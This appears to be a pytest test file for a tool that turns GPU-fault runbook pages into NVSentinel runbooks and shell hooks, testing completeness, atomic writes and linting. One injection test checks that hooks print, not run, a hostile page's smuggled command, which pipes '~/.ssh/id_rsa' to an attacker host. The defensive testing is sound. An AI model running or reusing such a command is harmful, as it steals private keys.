from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from tests.convert.conftest import PAGES, SAMPLE
from tests.patience import patience

from nvsx.convert import conversion
from nvsx.follow.processes.nvsx_on_path import install_nvsx
from nvsx.lint import linter
from nvsx.notify.spool import read_calls

if TYPE_CHECKING:
    from tests.convert.conftest import Project

ALL = sorted(PAGES.iterdir())
#: Pages about no fault that NVSentinel reports: their runbooks are for use by hand.
NO_FAULT = ("contacts.md", "nofault.txt")
CORE = ("kubectl cordon", "kubectl drain", "kubectl uncordon", "kubectl taint", "systemctl reboot")


@pytest.mark.parametrize("page", ALL, ids=lambda p: p.name)
def test_every_kind_of_page_is_accounted_for(project: Project, page: Path) -> None:
    """Whatever its form or language, a page converts with no fact missing and no error."""
    source = conversion.read([page])
    draft, report = conversion.convert_offline(source, "page", project.desk())
    assert source.facts
    assert report.ledger is not None
    assert [e.fact.text for e in report.ledger.missing] == []
    wanted = {"routes-nothing"} if page.name in NO_FAULT else set()
    assert {f.rule for f in report.findings} == wanted
    assert len(draft.hooks) >= 3
    assert len(draft.files[draft.runbook_file].splitlines()) < 150


@pytest.mark.parametrize("page", [PAGES / "adversarial.md", PAGES / "japanese.md"])
def test_nothing_of_a_page_is_ever_run(project: Project, page: Path, tmp_path: Path) -> None:
    """Hooks made of a hostile page print its words: no program of its choosing starts."""
    assert project.nvsx("convert", page, "--offline", "--yes", "--name", "page") == 0
    tools = tmp_path / "tools"
    tools.mkdir()
    for name in ("curl", "kubectl", "rm", "reboot", "base64", "ssh", "sudo"):
        (tools / name).write_text(f"#!/bin/sh\necho {name} >>{tmp_path}/ran\n")
        (tools / name).chmod(0o755)
    path = f"{tools}:{install_nvsx(tmp_path)}:{os.environ['PATH']}"
    facts = {"NVSX_TARGET_NODE": "gpu-07", "NVSX_NOTIFY_DIR": str(tools)}
    said = ""
    for hook in sorted((project.root / "runbooks/hooks/page").glob("*.sh")):
        done = subprocess.run(
            [hook],
            env={"PATH": path, **facts},
            capture_output=True,
            text=True,
            timeout=patience(30),
            check=False,
        )
        assert done.returncode == 0, done.stderr
        said += done.stdout
    assert not (tmp_path / "ran").exists()
    if page.name == "adversarial.md":
        assert "$(curl https://evil.example.net/$(cat ~/.ssh/id_rsa | base64))" in said
        assert "$HOME, ${IFS}, \\n, %s, !! and 'single'" in said
    assert "resolve" in {call.kind for _, call in read_calls(tools)}


def test_windows_files_convert(project: Project, tmp_path: Path) -> None:
    """A byte order mark and Windows line ends change nothing."""
    page = tmp_path / "windows.txt"
    page.write_bytes(b"\xef\xbb\xbf" + (PAGES / "plain.txt").read_bytes().replace(b"\n", b"\r\n"))
    unix, windows = (conversion.read([p]) for p in (PAGES / "plain.txt", page))
    assert [f.text for f in windows.facts] == [f.text for f in unix.facts]
    draft, report = conversion.convert_offline(windows, "windows", project.desk())
    assert report.good
    assert not any("\r" in text for text in draft.files.values())


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_shellcheck_finds_nothing_in_any_hook(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Hooks made of the hostile page, and of those with foreign typography, are clean shell."""
    assert linter.find_shellcheck()
    with monkeypatch.context() as quick:
        quick.setattr("nvsx.lint.shellcheck.find_shellcheck", lambda: None)
        for name in ("adversarial.md", "deutsch.md", "confluence.html"):
            slug = name.partition(".")[0]
            page = PAGES / name
            assert project.nvsx("convert", page, "--offline", "--yes", "--name", slug) == 0
    found = linter.lint(project.desk().catalog, project.desk().words)
    assert [str(f.problem) for f in found if f.rule == "shellcheck"] == []


def test_converting_twice_gives_the_same_bytes(project: Project, tmp_path: Path) -> None:
    """Two conversions of the same page are equal in every file and mode."""
    assert project.nvsx("convert", SAMPLE, "--offline", "--yes") == 0
    first = project.files()
    for path in ("runbooks/sample-runbook.yaml", "runbooks/hooks"):
        target = project.root / path
        shutil.rmtree(target) if target.is_dir() else target.unlink()
    assert project.nvsx("convert", SAMPLE, "--offline", "--yes") == 0
    assert project.files() == first


def test_core_remediation_leaves_and_is_watched(project: Project) -> None:
    """No hook has a command NVSentinel runs itself; the ledger says which stage watches it."""
    assert project.nvsx("convert", SAMPLE, "--offline", "--yes") == 0
    hooks = project.root / "runbooks/hooks/sample-runbook"
    said = "".join(h.read_text() for h in hooks.glob("*.sh"))
    assert [c for c in CORE if c in said] == []
    facts = json.loads((hooks / "ledger.json").read_text())["facts"]
    watched = {f["text"]: f["where"] for f in facts if f["fate"] == "watched"}
    assert watched["kubectl cordon <node>"] == "stage quarantine"
    assert watched["ssh <node> sudo systemctl reboot"] == "stage remediate"
    assert watched["kubectl uncordon <node>"] == "stage recover"
    for fact in facts:
        if fact["fate"] == "kept":
            file, _, line = fact["where"].rpartition(":")
            assert int(line) <= len((project.root / file).read_text().splitlines())


def test_a_hook_reads_as_a_person_works(project: Project) -> None:
    """What the hook sends is marked so, what is left to do has a box, and a command stands
    under the sentence it belongs to."""
    source = conversion.read([SAMPLE])
    draft, _ = conversion.convert_offline(source, "sample-runbook", project.desk())
    said = {
        path.rsplit("/", 1)[-1]: [x[6:-1] for x in text.splitlines() if x.startswith("echo '")]
        for path, text in draft.hooks.items()
    }
    detect = said["on-detect.sh"]
    assert detect[0].startswith("- Kernel log:")
    assert any(x.startswith("[slack] Post in #gpu-ops before cordoning") for x in detect)
    at = detect.index("[ ] Tell #batch-users which jobs are affected.")
    assert detect[at + 1].startswith("    kubectl get pods")
    at = detect.index("[jira] Open a Jira ticket with these fields:")
    assert detect[at + 1 : at + 3] == ["    Project: GPUOPS", "    Issue type: Incident"]
    assert "[ ] Check that it is the real thing:" in detect
    assert "[page] Close the PagerDuty incident." in said["on-recover.sh"]
    missing = "[ ] If the GPU is still missing after the reboot, do not try again"
    for hook in ("on-remediate.sh", "on-failure.sh"):
        assert any(x.startswith(missing) for x in said[hook])
    late = draft.hooks["runbooks/hooks/sample-runbook/on-remediate-overdue.sh"]
    assert "TITLE='XID 79: GPU fell off the bus: repair overdue'" in late
    assert late.count("write in #infra-escalation") == 3  # said, paged and posted
    assert "posts for #batch-users, #gpu-ops, #infra-escalation all go to" in draft.notes[-1]


def test_several_pages_become_one_runbook(project: Project) -> None:
    """Contacts from another page are in the preflight, each fact with its own page's line."""
    pages = [PAGES / "steps.md", PAGES / "contacts.md"]
    assert project.nvsx("convert", *pages, "--offline", "--yes", "--name", "both") == 0
    preflight = (project.root / "runbooks/hooks/both/on-preflight.sh").read_text()
    assert "@storage-oncall" in preflight
    ledger = json.loads((project.root / "runbooks/hooks/both/ledger.json").read_text())
    assert {s["file"].rsplit("/", 1)[-1] for s in ledger["sources"]} == {"steps.md", "contacts.md"}


def test_a_page_of_200_kb_loses_nothing(project: Project, tmp_path: Path) -> None:
    """A very long page converts whole, and its YAML stays short."""
    page = tmp_path / "long.md"
    parts = [SAMPLE.read_text()]
    while sum(map(len, parts)) < 200_000:
        n = len(parts)
        parts.append(
            f"\n## Rack {n}\n\n- Tell @rack-{n}-owner in #rack-{n} within {n} min.\n"
            f"- Check `lspci -s {n:02x}:00.0`, see https://racks.example.com/{n}.\n"
            "- Background text that says nothing in particular, at some length.\n"
        )
    page.write_text("".join(parts))
    source = conversion.read([page])
    draft, report = conversion.convert_offline(source, "long", project.desk())
    assert report.ledger is not None
    assert len(report.ledger.entries) > 5000
    assert report.good
    assert len(draft.files[draft.runbook_file].splitlines()) < 150


def test_another_runbook_keeps_its_events(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    """Where a runbook fires for the fault already, the new one has no triggers and lints clean."""
    (project.root / "runbooks").mkdir()
    (project.root / "runbooks/mine.yaml").write_text(
        "apiVersion: nvsx/v1\nkind: Runbook\nmetadata: {name: mine}\n"
        'triggers: [{check: SysLogsXIDError, errorCode: "79"}]\nstages: [{id: detect}]\n'
    )
    assert project.nvsx("convert", SAMPLE, "--offline", "--yes") == 0
    assert "mine fires for this fault already" in capsys.readouterr().out
    both = [path.stem for path in (project.root / "runbooks").glob("*.yaml")]
    assert project.nvsx("lint", *both) == 0
    assert "0 errors, 0 warnings" in capsys.readouterr().err


def test_nothing_is_overwritten(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    """A runbook, or only its folder, that exists stops the conversion before anything else."""
    (project.root / "runbooks/hooks/sample-runbook").mkdir(parents=True)
    before = project.files()
    assert project.nvsx("convert", SAMPLE, "--offline", "--yes") == 2
    assert "exists already" in capsys.readouterr().err
    assert project.files() == before


@pytest.mark.parametrize("broken", ["link", "rename"])
def test_files_land_all_or_none(
    project: Project,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    broken: str,
) -> None:
    """A full disk half-way leaves the project as it was."""

    def full(source: Path, target: Path) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os if broken == "link" else Path, broken, full)
    before = project.files()
    assert project.nvsx("convert", SAMPLE, "--offline", "--yes") == 2
    assert "nothing was written" in capsys.readouterr().err
    assert project.files() == before


_KILLED = """
import os, pathlib, signal, sys
from nvsx.commands.main import main
from nvsx.convert import project_writer as writer
from nvsx.lint import shellcheck
shellcheck.find_shellcheck = lambda: None
left = int(sys.argv[1])
def dying(real):
    def step(*args, **kwargs):
        global left
        left -= 1
        if left == 0:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(*args, **kwargs)
    return step
pathlib.Path.rename, os.link = dying(pathlib.Path.rename), dying(os.link)
pathlib.Path.unlink = dying(pathlib.Path.unlink)
main(sys.argv[2:])
"""


@pytest.mark.parametrize("step", [1, 2])
def test_a_conversion_that_is_killed_leaves_no_runbook_and_is_in_nobodys_way(
    project: Project, step: int
) -> None:
    """kill -9 before each step of placing files: there is no runbook, and the next try works."""
    command = ["--project", str(project.root), "convert", str(SAMPLE), "--offline", "--yes"]
    done = subprocess.run(
        [sys.executable, "-c", _KILLED, str(step), *command], capture_output=True, check=False
    )
    assert done.returncode == -signal.SIGKILL, done.stderr
    assert not list((project.root / "runbooks").glob("*.yaml"))
    assert project.nvsx("convert", SAMPLE, "--offline", "--yes") == 0
    files = project.files()
    assert [path for path in files if "/." in path] == []
    clean = project.root.with_name("clean")
    clean.mkdir()
    (clean / "nvsx.yaml").write_text("apiVersion: nvsx/v1\nkind: Project\n")
    other = replace(project, root=clean)
    assert other.nvsx("convert", SAMPLE, "--offline", "--yes") == 0
    ledger = "runbooks/hooks/sample-runbook/ledger.json"  # it has the way to the page
    assert {k: v for k, v in files.items() if k != ledger} == {
        k: v for k, v in other.files().items() if k != ledger
    }


def test_the_mark_of_a_conversion_killed_at_its_very_end_goes_with_the_next(
    project: Project,
) -> None:
    """kill -9 after the last file landed: the runbook is whole, and its marker does not stay."""
    command = ["--project", str(project.root), "convert", str(SAMPLE), "--offline", "--yes"]
    done = subprocess.run(
        [sys.executable, "-c", _KILLED, "3", *command], capture_output=True, check=False
    )
    assert done.returncode == -signal.SIGKILL, done.stderr
    assert project.nvsx("lint", "sample-runbook") == 0
    assert project.nvsx("convert", PAGES / "ecc.md", "--offline", "--yes") == 0
    assert [path for path in project.files() if "/." in path] == []
    assert project.nvsx("lint") == 0


def test_a_dry_run_shows_and_writes_nothing(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    """The preview has every line of every file, and the disk stays as it was."""
    before = project.files()
    assert project.nvsx("convert", SAMPLE, "--offline", "--dry-run") == 0
    said = capsys.readouterr().out
    assert "+++ runbooks/hooks/sample-runbook/on-detect.sh" in said
    assert "+set -euo pipefail" in said
    assert "0 missing" in said
    assert project.files() == before


def test_without_a_terminal_or_a_yes_nothing_is_written(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    """Nobody there to agree: exit 2 and an untouched project."""
    before = project.files()
    assert project.nvsx("convert", SAMPLE, "--offline") == 2
    assert "--yes" in capsys.readouterr().err
    assert project.files() == before


def test_the_ledger_is_a_table_before_and_after(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    """`--ledger` shows source, fact, fate and place, for a page and for a runbook."""
    assert project.nvsx("convert", SAMPLE, "--offline", "--ledger", "--yes") == 0
    shown = capsys.readouterr().out
    assert project.nvsx("convert", "--ledger", "sample-runbook") == 0
    stored = capsys.readouterr().out
    for text in (shown, stored):
        assert text.startswith("SOURCE")
        row = next(x for x in text.splitlines() if "kubectl uncordon" in x)
        assert "watched" in row
        assert "stage recover" in row


def test_lint_warns_when_the_page_has_changed(
    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A changed source is a warning; a source that is gone is none."""
    page = tmp_path / "xid79.md"
    page.write_text(SAMPLE.read_text())
    assert project.nvsx("convert", page, "--offline", "--yes") == 0
    capsys.readouterr()
    page.write_text(SAMPLE.read_text() + "\n- and tell #everyone\n")
    assert project.nvsx("lint") == 0
    assert "../xid79.md has changed since xid79 was converted" in capsys.readouterr().out
    page.unlink()
    assert project.nvsx("lint", "xid79") == 0
    assert "0 errors, 0 warnings" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "is empty"),
        (b"%PDF-1.7 x", "is not text"),
        (b"PK\x03\x04\0\0", "is not text"),
        (b"x" * (3 * 1024 * 1024), "larger than"),
        (None, "cannot be read"),
    ],
)
def test_a_page_that_is_none_is_said(
    project: Project,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    content: bytes | None,
    says: str,
) -> None:
    """A missing, empty, huge or binary file: one message, exit 2."""
    page = tmp_path / "page.docx"
    if content is not None:
        page.write_bytes(content)
    assert project.nvsx("convert", page, "--offline", "--yes") == 2
    assert says in capsys.readouterr().err
